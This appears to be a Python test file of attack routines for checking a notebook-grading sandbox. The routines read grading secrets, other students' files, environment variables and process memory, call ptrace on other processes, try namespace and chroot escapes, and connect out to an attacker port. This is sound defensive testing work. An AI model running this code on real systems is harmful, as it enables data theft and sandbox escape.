"""Attempts to read what is not theirs: tests, classmates' work, marks, surroundings.

Every secret of the arena begins with `secret-`; whatever these attackers find they
print, so that it would be seen in their notebook, their results or their feedback.
"""

from pathlib import Path

from tests.attacks.arena import LESSON, Hand
from tests.attacks.registry import Family

stealing = Family("read what must not be read")

LOOK = """
import os, re, sys
FOUND = "LO" + "OT"
PATTERN = re.compile(rb"secret-[a-z]+-[0-9a-f]{24}")

def show(data):
    data = data if isinstance(data, bytes) else str(data).encode("utf-8", "replace")
    for found in set(PATTERN.findall(data)):
        print(FOUND, found.decode())

def read(path):
    try:
        with open(path, "rb") as file:
            show(file.read(2**24))
    except (OSError, ValueError):
        pass
"""


@stealing()
def opens_files_of_the_class(hand: Hand) -> None:
    """Open the gradebook, the tests, a classmate's work by their absolute names."""
    root = hand.room.parent
    paths = [
        root / "build/source" / LESSON / f"{LESSON}.ipynb",
        root / "lesson" / f"{LESSON}.py",
        hand.room / "notes.txt",
        hand.room / "gradebook.db",
        hand.room / "results.jsonl",
        hand.room / "submitted/a_classmate" / LESSON / "diary.txt",
    ]
    hand.first(f"{LOOK}\nfor path in {[str(p) for p in paths]}:\n    read(path)")


@stealing(stock=False)
def climbs_up_from_its_folder(hand: Hand) -> None:
    """Open what lies above its own folder, as nbgrader arranges it."""
    hand.first(
        LOOK
        + f"""
for up in ("..", "../..", "../../..", "../../../..", "/proc/1/cwd", "/proc/self/root"):
    for folder, folders, files in os.walk(up):
        folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib")][:40]
        for name in files:
            if name.endswith((".ipynb", ".txt", ".py", ".db", ".jsonl")):
                if "{LESSON}" in folder or "classroom" in folder:
                    read(os.path.join(folder, name))
"""
    )


@stealing()
def copies_the_teachers_solution(hand: Hand) -> None:
    """Execute the solution cells of the teacher's notebook."""
    places = ["../../../build/source", "../../../source"]
    places += [str(hand.room.parent / "build/source")]
    code = f"""
import json
for place in {places}:
    try:
        text = open(place + "/{LESSON}/{LESSON}.ipynb").read()
    except OSError:
        continue
    for cell in json.loads(text)["cells"]:
        if "### BEGIN SOLUTION" in "".join(cell["source"]):
            if cell["cell_type"] == "code":
                exec("".join(cell["source"]))
"""
    hand.cell("Tally").source += code
    tests = hand.tests
    others = [cell for cell in hand.notebook.cells if cell not in tests]
    hand.notebook.cells = others + tests


@stealing()
def hands_in_links(hand: Hand) -> None:
    """Hand in links to the gradebook, the tests and a classmate."""
    root = hand.room.parent
    hand.links = {
        "notes.txt": hand.room / "notes.txt",
        "tests.txt": root / "build/source" / LESSON / f"{LESSON}.ipynb",
        "classmate": hand.room / "submitted" / "a_classmate",
        "above": Path("../../.."),
    }
    hand.first(
        LOOK
        + """
for name in ("notes.txt", "tests.txt", "classmate", "above"):
    read(name)
    for folder, folders, files in os.walk(name):
        for file in files:
            read(os.path.join(folder, file))
"""
    )


@stealing()
def reads_the_environment(hand: Hand) -> None:
    """Look at environment variables, at its own start and at other processes'."""
    hand.first(
        LOOK
        + """
import ctypes
show(dict(os.environ))
for process in os.listdir("/proc"):
    if process.isdigit() or process == "self":
        for name in ("environ", "cmdline", "auxv"):
            read(f"/proc/{process}/{name}")
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
if environ:
    for at in range(1000):
        if environ[at] is None:
            break
        show(environ[at])
"""
    )


SEARCH = (
    LOOK
    + """
def search(process):
    try:
        maps = open(f"/proc/{process}/maps").read().splitlines()
        memory = open(f"/proc/{process}/mem", "rb", 0)
    except OSError:
        return
    for line in maps:
        span, rights = line.split()[:2]
        if "w" not in rights:
            continue
        start, end = (int(part, 16) for part in span.split("-"))
        try:
            for at in range(start, end, 2**22):
                memory.seek(at)
                show(memory.read(min(2**22 + 100, end - at)))
        except (OSError, ValueError, OverflowError):
            pass
"""
)


@stealing()
def searches_its_own_memory(hand: Hand) -> None:
    """Read all of its memory, before the tests, in them and after them."""
    hand.first(SEARCH + "\nsearch('self')")
    hand.answer("mean_of", "def mean_of(numbers):\n    search('self')\n    return 0")
    hand.last("search('self')")


@stealing(stock=False)
def searches_the_memory_of_others(hand: Hand) -> None:
    """Read the memory of every process that it can see, by /proc and system call."""
    hand.first(
        SEARCH
        + """
import ctypes
for process in os.listdir("/proc"):
    if process.isdigit():
        search(process)
print(os.listdir("/proc").count("1"), "first process", os.getppid(), "parent")
libc = ctypes.CDLL(None, use_errno=True)
for pid in range(1, 400):
    if pid != os.getpid():
        libc.ptrace(16, pid, 0, 0)
"""
    )


@stealing()
def prints_the_cell_under_way(hand: Hand) -> None:
    """Print In, the history, and the frames of whoever called."""
    hand.first(LOOK)
    hand.answer(
        "mean_of",
        """
        import gc, inspect, linecache, traceback

        def mean_of(numbers):
            show(In[-1])
            show(get_ipython().history_manager.input_hist_raw)
            frame = inspect.currentframe()
            while frame is not None:
                show(frame.f_locals)
                show(frame.f_globals)
                try:
                    show(inspect.getsource(frame))
                except (OSError, TypeError):
                    pass
                frame = frame.f_back
            show(linecache.cache)
            show("".join(traceback.format_stack()))
            return 0
        """,
    )


@stealing()
def walks_through_all_objects(hand: Hand) -> None:
    """Look at every object that Python knows of, during a test."""
    hand.first(LOOK)
    hand.answer(
        "mean_of",
        """
        import gc

        def mean_of(numbers):
            seen = gc.get_objects()
            for thing in seen:
                for part in gc.get_referents(thing):
                    if type(part) in (str, bytes):
                        show(part)
            return 0
        """,
    )


@stealing()
def follows_the_traceback_of_a_test(hand: Hand) -> None:
    """Raise through the test and looks at the frames that come with it."""
    hand.first(LOOK)
    hand.answer(
        "mean_of",
        """
        import sys

        class Peek(ValueError):
            def __str__(self):
                trace = self.__traceback__
                while trace is not None:
                    show(trace.tb_frame.f_locals)
                    trace = trace.tb_next
                show(sys.exc_info())
                return "peek"

        def mean_of(numbers):
            raise Peek()
        """,
    )


@stealing()
def reads_inherited_files(hand: Hand) -> None:
    """Read from every file, pipe and socket that it was born with."""
    hand.first(
        LOOK
        + """
import fcntl
for number in range(256):
    try:
        kind = os.readlink(f"/proc/self/fd/{number}")
        flags = fcntl.fcntl(number, fcntl.F_GETFL)
        fcntl.fcntl(number, fcntl.F_SETFL, flags | os.O_NONBLOCK)
    except OSError:
        continue
    try:
        if "socket" not in kind:
            show(os.read(number, 2**20))
    except OSError:
        pass
    try:
        fcntl.fcntl(number, fcntl.F_SETFL, flags)
    except OSError:
        pass
"""
    )


@stealing(stock=False)
def asks_the_template_for_a_process(hand: Hand) -> None:
    """Look for the socket of multiprocessing's fork server, to be given a process."""
    hand.first(
        LOOK
        + """
import array, glob, socket
from multiprocessing import forkserver, process

print("address", forkserver._forkserver._forkserver_address)
places = glob.glob("/tmp/**/listener-*", recursive=True)
places += glob.glob("/tmp/pymp-*/*") + glob.glob("/run/**/*.sock", recursive=True)
try:
    places += re.findall(r"\\s(/\\S+|@\\S+)$", open("/proc/net/unix").read(), re.M)
except OSError:
    pass
for command in ("/proc/1/cmdline", "/proc/self/cmdline"):
    read(command)
print("sockets", places)
for place in places:
    with socket.socket(socket.AF_UNIX) as line:
        try:
            line.connect(place.replace("@", "\\0"))
            print(FOUND + " a way to", place)
        except OSError as error:
            print(place, error)
"""
    )


@stealing(stock=False)
def visits_classmates_at_work(hand: Hand) -> None:
    """Look for scratch folders and shared memory of those graded beside it."""
    hand.first(
        LOOK
        + """
import glob, signal
for place in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/proc/1/root/tmp"):
    for folder, folders, files in os.walk(place):
        for name in files:
            path = os.path.join(folder, name)
            if not path.startswith(os.getcwd()):
                print(FOUND + " a file of", path)
                read(path)
"""
    )


@stealing(stock=False)
def takes_a_classmates_place(hand: Hand) -> None:
    """Mounts, changes root and enters namespaces to get out of its own."""
    hand.first(
        LOOK
        + f"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print("unshare", libc.unshare(0x10000000), libc.unshare(0x00020000))
for name in ("mnt", "pid", "user", "net"):
    for process in ("1", "self"):
        try:
            handle = os.open(f"/proc/{{process}}/ns/{{name}}", os.O_RDONLY)
            print(name, libc.setns(handle, 0))
        except OSError as error:
            print(error)
print("chroot", libc.chroot(b"/proc/1/root"), libc.mount(b"/", b"/tmp", None, 4096, 0))
read("{hand.room}/notes.txt")
read("/tmp{hand.room}/notes.txt")
"""
    )


@stealing()
def calls_home(hand: Hand) -> None:
    """Connect to a server on this machine and to one elsewhere."""
    hand.first(
        LOOK
        + f"""
import socket
PORT = int(os.environ.get("ATTACKERS_PORT", "{hand.port}"))
for family, place in (
    (socket.AF_INET, ("127.0.0.1", PORT)),
    (socket.AF_INET6, ("::1", PORT)),
    (socket.AF_UNIX, "{hand.room}/server.sock"),
    (socket.AF_UNIX, "\\0server-of-the-attack"),
):
    try:
        with socket.socket(family) as line:
            line.settimeout(1)
            line.connect(place)
            line.sendall(b"here I am")
            print(FOUND + " a way to", place)
    except OSError as error:
        print(error)
"""
    )
